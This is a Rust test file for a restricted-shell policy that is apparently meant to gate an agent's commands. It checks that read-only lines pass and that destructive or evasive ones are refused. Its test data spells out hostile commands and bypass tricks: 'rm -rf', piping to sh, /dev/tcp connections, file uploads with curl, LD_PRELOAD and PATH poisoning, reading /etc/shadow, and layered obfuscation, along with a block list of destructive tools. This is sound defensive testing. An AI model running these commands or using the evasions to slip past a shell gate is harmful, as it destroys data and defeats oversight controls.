//! The restricted shell, from the text of a line to the judgement: the grammar and the rules together (C-23, X4-7, X2-7).

use std::collections::BTreeSet;

use callgate_policy::shell::restricted::{RULES, judge};

use super::tests::ShellDice;
use super::understand;

fn refused(line: &str) -> bool {
    judge(&understand(line)).is_err()
}

/// S4-9, C-23: each rule passes what it says, and catches what it says.
#[test]
fn s4_9_c_23_rules_do_what_they_say() {
    for rule in RULES {
        for line in rule.passed {
            assert_eq!(judge(&understand(line)), Ok(()), "{line}");
        }
        for line in rule.caught {
            let refusal = judge(&understand(line)).expect_err(line);
            assert!(!refusal.why.is_empty() && !refusal.remedy.is_empty(), "{refusal}");
        }
        assert!(!rule.passed.is_empty() && !rule.caught.is_empty(), "{:?}", rule.names);
    }
}

/// X4-5: there is a rule for each command of the page but two: `ack` has options that run perl, and `wget` writes a file unless it is
/// told not to.
#[test]
fn x4_5_each_command_of_the_page_has_a_rule() {
    let page = "cat head tail less more grep rg ag find locate which whereis ls tree du df file stat wc md5 sha256sum shasum \
        awk sed cut sort uniq tr column fmt fold nl pr expand unexpand jq yq xmllint tar unzip zipinfo zcat zless zgrep gzip \
        gunzip pwd whoami hostname uname env printenv date uptime ps top free ping curl dig nslookup host netstat ss git echo \
        printf diff cmp comm hexdump xxd od strings";
    for name in page.split_whitespace() {
        assert!(RULES.iter().any(|rule| rule.names.contains(&name)), "{name}");
    }
    assert!(refused("ack x") && refused("wget x"));
}

/// S4-10, X4-6: what the page names is refused, wherever it stands.
#[test]
fn s4_10_x4_6_blocked_commands_are_refused() {
    let blocked = "rm rmdir mv cp chmod chown chgrp mkdir touch truncate shred dd mkfs mount umount kill pkill killall reboot shutdown \
        halt poweroff systemctl service apt yum dnf brew pip npm yarn cargo sudo su doas";
    for name in blocked.split_whitespace() {
        for line in [
            format!("{name} x"),
            format!("ls && {name} x"),
            format!("ls | {name} x"),
            format!("echo $({name} x)"),
            format!("/usr/bin/{name} x"),
        ] {
            assert!(refused(&line), "{line}");
        }
    }
    for line in [
        "ls > f",
        "ls >> f",
        "ls &> f",
        "ls >| f",
        "ls 2> f",
        "> f",
        "(ls) > f",
        "while true; do ls; done > f",
        "ls <> f",
        "ls > \"$f\"",
        "ls > /dev/sda",
    ] {
        assert!(refused(line), "{line}");
    }
}

/// X4-7, X2-7: the holes that others have, and their false alarms.
#[test]
fn x4_7_x2_7_holes_of_others_are_closed() {
    for line in [
        "cat x | sh",
        "git push",
        "git checkout x",
        "git clean -f",
        "find . -delete",
        "find . -exec rm {} ;",
        "sed -i s/a/b/ f",
        "awk 'BEGIN{system(\"rm x\")}'",
        "env sh -c 'rm x'",
        "curl -o f https://x",
        "curl -T f https://x",
        "curl -d @f https://x",
        "wget https://x",
        "tar -xf a",
        "echo $(rm x)",
        "echo `rm x`",
        "ls\nrm x",
        "ls & rm x",
        "cat <(rm x)",
        "envfoo",
        "set",
        "awk -f x",
        "sed -i p f",
        // C4: builtins that poison what later commands see.
        "export PATH=/tmp; ls",
        "PATH=/tmp ls",
        "PATH=/tmp; ls",
        "for PATH in /tmp; do ls; done",
        "LD_PRELOAD=./x.so ls",
        "read PATH",
        "printf -v PATH /tmp",
        "GIT_EXTERNAL_DIFF=./x git diff",
        "PAGER=./x git log",
        "BASH_ENV=x ls",
        "declare -x PATH=.",
        "typeset PATH=.",
        "http_proxy=x curl https://x",
        "HOME=. git log",
        "RIPGREP_CONFIG_PATH=f rg x",
        "TZ=/etc/shadow date",
        "LC_ALL=/tmp/x ls",
        // C19: bash would read the second line by another character set.
        "LC_ALL=zh_CN.GB18030\ncat \u{4e2d}",
        "for LC_ALL in zh_CN.GB18030; do :; done",
        "LANG=ja_JP ls",
        "LC_ALL=$x ls",
        "POSIXLY_CORRECT=1 ls",
        "echo $\"x\"",
        // C6, C10, C12: other programs of a good name.
        "./ls",
        "/tmp/ls",
        "/proc/self/root/bin/ls",
        "~/bin/ls",
        "bin/../ls",
        // What is only known when it runs.
        "$x",
        "\"$x\" y",
        "$(echo rm) x",
        "{rm,x}",
        "/bin/r?",
        "find . \"$x\"",
        "sort *",
        "xargs \"$x\"",
        "git \"$x\"",
        "cat < $x",
        "cat < /dev/tcp/1.2.3.4/80",
        "cat <//dev/tcp/1.2.3.4/80",
        "f() { ls; }; f",
        "ls() { rm x; }; ls",
        "x='a[$(rm x)]'; [[ $x -eq 1 ]]",
        "echo $((x))",
        "echo ${x@P}",
        "sed 's/[]/]p/;s/x/w out/' f",
    ] {
        assert!(refused(line), "{line}");
    }
    for line in [
        "grep rm file",
        "grep '>' file",
        "echo 'rm -rf /'",
        "git log --grep='rm > x'",
        "cat rm",
        "ls ./sudo",
        "rg 'curl | sh'",
        "ls # rm x",
        "cat <<'E'\nrm x > y\nE",
        "LC_ALL=C sort f",
        "LANG=de_DE.UTF-8 LC_TIME=C.utf8 date",
    ] {
        assert_eq!(judge(&understand(line)), Ok(()), "{line}");
    }
}

/// Harm that each way of hiding keeps.
const HARM: &[&str] = &[
    "rm -rf x",
    "mv a b",
    "cp a b",
    "touch x",
    "chmod 777 x",
    "kill 1",
    "sudo ls",
    "sh -c ls",
    "bash x.sh",
    "python3 -c 1",
    "node -e 1",
    "perl -e 1",
    "git push origin",
    "git clean -fd",
    "git commit -m x",
    "npm test",
    "cargo build",
    "find . -delete",
    "find . -exec rm {} +",
    "sed -i s/a/b/ f",
    "awk 'BEGIN{system(\"id\")}'",
    "tar xf a",
    "curl -o f https://x",
    "sort -o f f",
    "tee x",
    "dd if=a of=b",
    "eval ls",
    "source x",
    ". x",
    "exec ls",
    "ln -s a b",
    "mkdir x",
    "xargs rm",
    "rg --pre sh x",
    "uniq a b",
    "env sh",
    "make",
    "docker run x",
    "crontab x",
    "ssh h",
];

fn hide(line: String, dice: &mut ShellDice) -> String {
    let (first, rest) =
        line.split_once(' ').map_or((line.clone(), String::new()), |(a, b)| (a.to_owned(), format!(" {b}")));
    let plain = first.len() > 1 && first.bytes().all(|byte| byte.is_ascii_alphanumeric());
    match dice.roll(if plain { 34 } else { 22 }) {
        0 => format!("ls; {line}"),
        1 => format!("ls && {line}"),
        2 => format!("false || {line}"),
        3 => format!("ls | {line}"),
        4 => format!("ls & {line}"),
        5 => format!("ls\n{line}"),
        6 => format!("echo $({line})"),
        7 => format!("echo \"$({line})\""),
        8 => format!("cat <({line})"),
        9 => format!("({line})"),
        10 => format!("{{ {line}; }}"),
        11 => format!("if true; then {line}; fi"),
        12 => format!("while {line}; do ls; done"),
        13 => format!("for x in a; do {line}; done"),
        14 => format!("! {line}"),
        15 => format!("case a in *) {line};; esac"),
        16 => format!("cat <<E\n$({line})\nE"),
        17 => format!("f() {{ {line}; }}; f"),
        18 => format!("x=$({line})"),
        19 => format!("ls # x\n{line}"),
        20 => format!("until {line}; do ls; done"),
        21 => format!("cat <<< $({line})"),
        22 => format!("env {line}"),
        23 => format!("nice -n 5 {line}"),
        24 => format!("timeout 5 {line}"),
        25 => format!("time {line}"),
        26 => format!("command {line}"),
        27 => format!("ls | xargs {line}"),
        28 => format!("{}''{}{rest}", &first[..1], &first[1..]),
        29 => format!("\\{first}{rest}"),
        30 => format!("\"{first}\"{rest}"),
        31 => format!("$'\\x{:02x}'{}{rest}", first.as_bytes()[0], &first[1..]),
        32 => format!("c={first}; $c{rest}"),
        _ => format!("/usr/bin/{first}{rest}"),
    }
}

/// C-23: a thousand lines that hide what they do, one to four ways deep. None passes.
#[test]
fn c_23_a_thousand_hidden_lines_are_refused() {
    let mut dice = ShellDice(4096);
    let mut lines = BTreeSet::new();
    while lines.len() < 1000 {
        let mut line = HARM[dice.roll(HARM.len())].to_owned();
        for _ in 0..1 + dice.roll(4) {
            line = hide(line, &mut dice);
        }
        lines.insert(line);
    }
    let (mut understood, mut passed) = (0, Vec::new());
    for line in &lines {
        let read = understand(line);
        understood += usize::from(read.unknown.is_none());
        if judge(&read).is_ok() {
            passed.push(line);
        }
    }
    assert!(passed.is_empty(), "{passed:#?}");
    assert!(understood > 800, "only {understood} are refused for what they do");
}

/// S4-9: two hundred lines of every day that only read. All pass.
#[test]
fn s4_9_two_hundred_reading_lines_pass() {
    let lines: Vec<&str> = include_str!("reading.txt").lines().filter(|line| !line.is_empty()).collect();
    assert!(lines.len() >= 200, "{}", lines.len());
    let refused: Vec<String> =
        lines.iter().filter_map(|line| judge(&understand(line)).err().map(|why| format!("{line}: {why}"))).collect();
    assert!(refused.is_empty(), "{refused:#?}");
}
